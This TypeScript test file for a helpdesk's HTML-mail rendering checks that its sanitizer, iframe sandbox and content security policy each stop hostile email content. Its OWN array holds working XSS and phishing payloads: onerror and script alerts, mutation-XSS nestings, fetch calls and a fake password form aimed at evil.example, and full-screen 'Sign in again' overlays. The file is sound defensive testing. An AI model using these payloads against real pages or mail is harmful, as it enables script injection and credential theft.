/* Every HTML vector of the corpus as a mail, on the ticket page in Chromium (G11, AC-022 … AC-029, AC-036). Three walls stand
   between a mail and the colleague: the cleaner, the sandbox, the policy. Together nothing even knocks; then the cleaner and
   the other two are tried alone, so that none is only believed to hold. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { type Browser, launch, open, type Page } from '../lib/browser.ts';
import { admin, type Desk, eventually, password, startDesk } from '../lib/desk.ts';
import { listen, NOTHING, trespasses } from '../lib/frames.ts';
import { htmlMail } from '../lib/lmtp.ts';
import { differing } from '../lib/pictures.ts';
import { vectors as own } from './vectors.ts';

const corpus = new URL('../corpus/html/', import.meta.url);
const read = (name: string): string[] => JSON.parse(readFileSync(new URL(name, corpus), 'utf8')) as string[];

/* What other collections leave out: things that reach beyond the mail without any script. */
const OWN = [
  '<div style="position:fixed;inset:0;background:#f00;z-index:2147483647;width:100vw;height:100vh">Sign in again</div>',
  '<div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;background:#f00"></div>',
  '<form action="https://evil.example/"><input name="password"><button autofocus>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><a href="next" target="_top">next</a>',
  '<link rel="stylesheet" href="https://evil.example/s.css"><link rel="dns-prefetch" href="//evil.example">',
  '<style>@import "https://evil.example/i.css"; body { background: url(https://evil.example/b.png) } a[href^="a"] { content: url(https://evil.example/a) }</style>',
  '<img src="https://evil.example/1.png" srcset="https://evil.example/2.png 2x"><table background="https://evil.example/3.png"><tr><td>x</td></tr></table>',
  '<video autoplay src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video><audio autoplay src="https://evil.example/a.mp3"></audio>',
  '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<a href="https://example.org/" ping="https://evil.example/ping" download>a link</a><a href="javascript:alert(1)">click</a>',
  '<svg><use href="https://evil.example/u.svg#x"/><image href="https://evil.example/i.png"/><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<details open ontoggle=alert(1)>x</details><dialog open>Your session has ended</dialog><p popover id=p>x</p>',
  '<script>fetch("https://evil.example/")</script><img src=x onerror="alert(1);fetch(\'https://evil.example/\')"><body onload=alert(1)>',
];
const vectors = [...read('h5sc.json'), ...read('loofah.json'), ...own, ...OWN];
const A_TICKET = 50;
/* So many of the last ones, which are our own, go round once more. */
const AGAIN = 50;

let desk: Desk;
let browser: Browser;
/* Message ids by vector, and the tickets that hold them. */
const messages = new Map<number, number>();
const tickets: number[] = [];

before(async () => {
  [desk, browser] = await Promise.all([startDesk(), launch()]);
  const amara = await desk.signIn();
  for (let first = 0; first < vectors.length; first += A_TICKET) {
    const address = `vectors-${first}@example.org`;
    const subject = `Vectors from ${first}`;
    for (let i = first; i < Math.min(first + A_TICKET, vectors.length); i++) {
      const said = await desk.deliver(htmlMail(`<p>Vector ${i}</p>${vectors[i]}`, { from: address, subject: i === first ? subject : `Re: ${subject}` }), i === first ? undefined : await wayBack(address), address);
      assert.match(said, /^250/);
    }
    const row = await eventually('the ticket', async () => (await amara.get(`/api/v1/tickets?limit=50`)).body.tickets.find((one: { subject: string }) => one.subject === subject));
    const { body } = await amara.get(`/api/v1/tickets/${row.id}`);
    tickets.push(row.id);
    const came = (body.messages as { id: number; direction: string }[]).filter((message) => message.direction === 'in').map((message) => message.id).sort((a, b) => a - b);
    assert.equal(came.length, Math.min(A_TICKET, vectors.length - first), 'all are on one ticket');
    for (const [i, id] of came.entries()) messages.set(first + i, id);
  }
});
after(async () => {
  await browser?.close();
  await desk?.end();
});

const ways = new Map<string, string>();
async function wayBack(address: string): Promise<string> {
  const known = ways.get(address);
  if (known) return known;
  const receipt = await eventually('the receipt', () => desk.outbox().find((mail) => new RegExp(`^To: .*${address}`, 'm').test(mail)));
  const way = /^Reply-To: .*?([^\s<>]+@[^\s<>]+)>?\r?$/m.exec(receipt)?.[1] ?? '';
  ways.set(address, way);
  return way;
}

async function signedIn(): Promise<Page> {
  const { page } = await open(browser);
  await page.goto(desk.url);
  await page.getByLabel('Email').fill(admin);
  await page.getByLabel('Password', { exact: true }).fill(password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.locator('[data-ticket]').first().waitFor();
  return page;
}

/* Opens each message of the ticket on PAGE as it was sent. */
async function openAll(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Other ways to send' }).waitFor();
  const opened = await page.getByRole('button', { name: 'Show as sent' }).evaluateAll((buttons) => {
    for (const button of buttons as HTMLElement[]) button.click();
    return buttons.length;
  });
  await page.locator('iframe').nth(opened - 1).waitFor();
}

async function assertHarmless(page: Page): Promise<void> {
  await Promise.all(page.frames().slice(1).map(async (frame) => {
    await frame.waitForLoadState('load');
    assert.deepEqual(await frame.evaluate(trespasses), [], frame.url());
  }));
}

/* A page of ours with one frame for each of the vectors, which MAKE answers; ATTRIBUTES stand on the frames. */
async function framesOf(page: Page, of: number[], attributes: string, make: (i: number) => Promise<{ body: string; headers: Record<string, string> }>): Promise<void> {
  await page.route('**/walls', (route) => route.fulfill({ contentType: 'text/html', body: of.map((i) => `<iframe ${attributes} src="/wall/${i}"></iframe>`).join('') }));
  await page.route('**/wall/*', async (route) => {
    const { body, headers } = await make(Number(route.request().url().split('/').pop()));
    await route.fulfill({ body, headers: { 'content-type': 'text/html; charset=utf-8', ...headers } }).catch(() => undefined);
  });
  /* Until all frames have loaded, too. */
  await page.goto(`${desk.url}/walls`);
}

const raw = (i: number): string => `<!doctype html><html><head></head><body>${vectors[i]}</body></html>`;
const all = vectors.map((_, i) => i);

test('every vector, shown as it was sent on its ticket: no script, no request, no window, nothing to click into', async () => {
  const page = await signedIn();
  const heard = await listen(page, desk.url);
  for (const ticket of tickets) {
    await page.goto(`${desk.url}/t/${ticket}`);
    await openAll(page);
    await assertHarmless(page);
    assert.equal(page.url(), `${desk.url}/t/${ticket}`);
  }
  assert.deepEqual(heard, NOTHING);
  await page.context().close();
});

test('nothing of a mail is drawn outside its frame, or takes the focus', async () => {
  const page = await signedIn();
  const looks = async (): Promise<Buffer[]> => [await page.getByRole('navigation').screenshot(), await page.getByRole('region', { name: 'Write' }).screenshot()];
  await page.goto(`${desk.url}/t/${tickets.at(-1)}`);
  await page.getByRole('button', { name: 'Other ways to send' }).waitFor();
  await page.getByRole('navigation').getByText(/^\d+$/).waitFor();
  await page.mouse.move(0, 0);
  const before = await looks();
  await openAll(page);
  await assertHarmless(page);
  const after = await looks();
  for (const [i, look] of after.entries()) assert.ok((await differing(browser, look, before[i] as Buffer)) < 0.001, `part ${i} of the page changed`);
  assert.equal(await page.evaluate(() => document.activeElement instanceof HTMLIFrameElement), false);
  await page.context().close();
});

test('what the cleaner leaves is harmless without sandbox and policy', async () => {
  const { page } = await open(browser);
  const heard = await listen(page, desk.url);
  const amara = await desk.signIn();
  for (let first = 0; first < all.length; first += A_TICKET) {
    await framesOf(page, all.slice(first, first + A_TICKET), '', async (i) => ({ body: String((await amara.get(`/api/v1/messages/${messages.get(i)}/html`)).body), headers: {} }));
    await assertHarmless(page);
  }
  assert.deepEqual(heard, NOTHING);
  await page.context().close();
});

test('with the pictures of others nothing is asked for but those that waited (AC-026, AC-027)', async () => {
  const { page } = await open(browser);
  const heard = await listen(page, desk.url);
  const amara = await desk.signIn();
  const waiting = new Set<string>();
  const ours = all.slice(-own.length - OWN.length);
  for (let first = 0; first < ours.length; first += A_TICKET) {
    await framesOf(page, ours.slice(first, first + A_TICKET), '', async (i) => {
      const shut = String((await amara.get(`/api/v1/messages/${messages.get(i)}/html`)).body);
      for (const [, address] of shut.matchAll(/ data-(?:src|background)="([^"]*)"/g)) waiting.add(new URL((address as string).replaceAll('&amp;', '&')).href);
      return { body: String((await amara.get(`/api/v1/messages/${messages.get(i)}/html?images=1`)).body), headers: {} };
    });
  }
  assert.deepEqual(heard.outside.filter((address) => !waiting.has(address)), []);
  assert.deepEqual({ ...heard, outside: [] }, NOTHING);
  assert.ok(heard.outside.length > 20, 'pictures are shown');
  await page.context().close();
});

test('what Chromium makes of a clean mail is cleaned to the same (AC-023, AC-024)', async () => {
  const { page } = await open(browser);
  const amara = await desk.signIn();
  /* Without the addresses of the mail's own pictures, which the frame gives out. */
  const bodyOf = async (id: number | undefined): Promise<string> => page.evaluate((html) => {
    const parsed = new DOMParser().parseFromString(html, 'text/html').body;
    for (const own of parsed.querySelectorAll('[src^="/api/"]')) own.removeAttribute('src');
    for (const own of parsed.querySelectorAll('[style*="/api/"]')) own.removeAttribute('style');
    return parsed.innerHTML;
  }, String((await amara.get(`/api/v1/messages/${id}/html`)).body));
  const address = 'again@example.org';
  const first = new Map<number, string>();
  for (const i of all.slice(-AGAIN)) {
    first.set(i, await bodyOf(messages.get(i)));
    assert.match(await desk.deliver(htmlMail(`<!doctype html>${first.get(i)}`, { from: address, subject: 'Again' }), i === all.length - AGAIN ? undefined : await wayBack(address), address), /^250/);
  }
  const row = await eventually('the ticket', async () => (await amara.get('/api/v1/tickets?limit=50')).body.tickets.find((one: { subject: string }) => one.subject === 'Again'));
  const { body } = await amara.get(`/api/v1/tickets/${row.id}`);
  const came = (body.messages as { id: number; direction: string }[]).filter((message) => message.direction === 'in').map((message) => message.id).sort((a, b) => a - b);
  for (const [n, i] of all.slice(-AGAIN).entries()) assert.equal(await bodyOf(came[n]), first.get(i), vectors[i]);
  await page.context().close();
});

test('sandbox and policy hold without the cleaner', async () => {
  const { page } = await open(browser);
  const heard = await listen(page, desk.url);
  const amara = await desk.signIn();
  const { headers } = await amara.get(`/api/v1/messages/${messages.get(0)}/html`);
  const policy = { 'content-security-policy': headers.get('content-security-policy') ?? '' };
  for (let first = 0; first < all.length; first += A_TICKET) {
    await framesOf(page, all.slice(first, first + A_TICKET), 'sandbox="allow-popups allow-popups-to-escape-sandbox"', (i) => Promise.resolve({ body: raw(i), headers: policy }));
  }
  assert.deepEqual({ ...heard, blocked: [] }, NOTHING);
  assert.ok(heard.blocked.length > 0, 'the browser had nothing to stop');
  await page.context().close();
});

test('without any wall the same ears hear scripts and requests', async () => {
  const { page } = await open(browser);
  const heard = await listen(page, desk.url);
  await framesOf(page, all.slice(-OWN.length), '', (i) => Promise.resolve({ body: raw(i), headers: {} }));
  await eventually('the scripts', () => heard.dialogs.length > 2 || undefined);
  await eventually('the requests', () => heard.outside.length > 5 || undefined);
  await page.context().close();
});
